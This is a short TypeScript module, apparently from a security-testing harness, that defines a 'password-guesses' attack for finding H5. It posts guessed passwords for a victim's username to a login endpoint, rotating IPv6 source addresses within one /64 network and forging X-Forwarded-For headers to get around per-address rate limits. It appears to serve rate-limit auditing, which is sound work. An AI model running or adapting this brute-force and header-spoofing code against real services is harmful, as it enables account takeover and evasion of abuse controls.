import { randomUUID } from 'node:crypto';
import { loop, outcomeOf, type Attack } from '../attackers/attack.ts';
import { nextInterface } from '../attackers/attacker.ts';
import type { Source } from '../attackers/http-request.ts';

export const passwordGuesses: Attack = {
  name: 'password-guesses',
  finding: 'H5',
  about: 'Guesses the password of an ordinary person from the addresses of one IPv6 /64 network, and with forged X-Forwarded-For headers.',
  async run(attacker, context) {
    await loop(context, { concurrency: 2, pauseMs: 100 }, async (round) => {
      const isForged = round % 2 === 0;
      const from: Source = isForged ? { ...attacker.home, forwardedFor: randomIpv4() } : nextInterface(attacker);
      const body = { login: attacker.victim.username, password: randomUUID() };
      const answer = await attacker.request({ method: 'POST', path: '/v1/sessions', from, body });
      context.count(`${isForged ? 'forged header' : 'one /64'}: ${outcomeOf(answer)}`);
    });
  },
};

const randomIpv4 = (): string => Array.from({ length: 4 }, () => 1 + Math.floor(Math.random() * 250)).join('.');
